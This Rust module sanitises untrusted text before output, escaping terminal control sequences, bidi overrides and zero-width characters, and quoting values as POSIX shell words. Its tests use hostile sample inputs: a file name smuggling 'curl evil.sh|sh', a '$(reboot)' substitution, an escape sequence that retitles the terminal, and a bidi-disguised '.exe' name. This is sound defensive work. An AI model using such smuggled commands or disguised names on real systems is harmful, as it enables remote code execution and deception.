//! Text from outside (a certificate's subject, a file or zip entry name, a
//! typed value echoed back) made safe to show to a person: in a terminal an
//! escape sequence could recolour the screen, retitle the window or hide a
//! line; a bidi override (U+202E) or a zero-width character makes text read
//! differently from what it is, in a terminal, a README or a web page; and a
//! name pasted into a suggested shell command could run anything. Every
//! output boundary passes such text through here.

use std::borrow::Cow;

/// Whether `c` changes how the text around it shows without showing itself:
/// a control character other than newline and tab (C0, DEL, C1), a Unicode
/// format character (bidi embeddings, overrides and isolates, zero-width
/// spaces and joiners, the byte-order mark, the soft hyphen, ...), or a line
/// or paragraph separator.
pub fn is_hidden(c: char) -> bool {
    if c == '\n' || c == '\t' {
        return false;
    }
    c.is_control() || is_format(c) || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Unicode's format characters (general category Cf).
fn is_format(c: char) -> bool {
    matches!(c,
        '\u{00AD}'
        | '\u{0600}'..='\u{0605}'
        | '\u{061C}'
        | '\u{06DD}'
        | '\u{070F}'
        | '\u{0890}'..='\u{0891}'
        | '\u{08E2}'
        | '\u{180E}'
        | '\u{200B}'..='\u{200F}'
        | '\u{202A}'..='\u{202E}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{206F}'
        | '\u{FEFF}'
        | '\u{FFF9}'..='\u{FFFB}'
        | '\u{110BD}'
        | '\u{110CD}'
        | '\u{13430}'..='\u{1343F}'
        | '\u{1BCA0}'..='\u{1BCA3}'
        | '\u{1D173}'..='\u{1D17A}'
        | '\u{E0001}'
        | '\u{E0020}'..='\u{E007F}')
}

/// Whether `text` holds a hidden character. Text that is printable ASCII,
/// newlines and tabs (nearly all of it) is told by its bytes alone.
fn any_hidden(text: &str) -> bool {
    let plain = |b: &u8| matches!(b, b' '..=b'~' | b'\n' | b'\t');
    !text.as_bytes().iter().all(plain) && text.chars().any(is_hidden)
}

/// `text` with every hidden character written out as `\u{1b}`, so what shows
/// is what is there. Newlines and tabs stay.
pub fn safe(text: &str) -> Cow<'_, str> {
    if !any_hidden(text) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_hidden(c) {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// [`safe`] for text already owned: returned as it is when nothing in it
/// is hidden (a fleet's README.txt is tens of megabytes).
pub fn safe_owned(text: String) -> String {
    if any_hidden(&text) {
        safe(&text).into_owned()
    } else {
        text
    }
}

/// JSON text with the hidden characters serde_json leaves as they are (format
/// characters; it escapes control characters itself) escaped as `\uXXXX`,
/// which JSON reads back as the same characters.
pub fn json(text: String) -> String {
    if !any_hidden(&text) {
        return text;
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_hidden(c) && c != '\n' {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `text` as one word for a POSIX shell: as it is when it needs no quoting,
/// otherwise in single quotes (a quote inside written as `'\''`), hidden
/// characters written out.
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let plain = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(c, '/' | '.' | '_' | '-' | '+' | ':' | '@' | '%' | ',' | '=')
    };
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", safe(text).replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_and_bidi_overrides_are_written_out() {
        assert_eq!(safe("docker1.example.com"), "docker1.example.com");
        assert_eq!(
            safe("Evil\u{1b}[31mRED\u{1b}]0;title\u{7}CA"),
            "Evil\\u{1b}[31mRED\\u{1b}]0;title\\u{7}CA"
        );
        assert_eq!(safe("abc\u{202E}gnp.exe"), "abc\\u{202e}gnp.exe");
        assert_eq!(
            safe("zero\u{200B}width\u{FEFF}"),
            "zero\\u{200b}width\\u{feff}"
        );
        assert_eq!(safe("two\nlines\tand 中文"), "two\nlines\tand 中文");
        assert_eq!(safe("c1\u{9b}31m"), "c1\\u{9b}31m");
    }

    #[test]
    fn json_stays_json() {
        let value = serde_json::json!({ "name": "a\u{202E}b\u{1b}c" });
        let text = json(serde_json::to_string(&value).unwrap());
        assert_eq!(text, r#"{"name":"a\u202eb\u001bc"}"#);
        let back: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(back, value);
    }

    #[test]
    fn shell_words_cannot_run_anything() {
        assert_eq!(shell_word("key.pem"), "key.pem");
        assert_eq!(
            shell_word("key;curl evil.sh|sh;.pem"),
            "'key;curl evil.sh|sh;.pem'"
        );
        assert_eq!(shell_word("it's"), "'it'\\''s'");
        assert_eq!(shell_word(""), "''");
        assert_eq!(shell_word("$(reboot)"), "'$(reboot)'");
    }
}
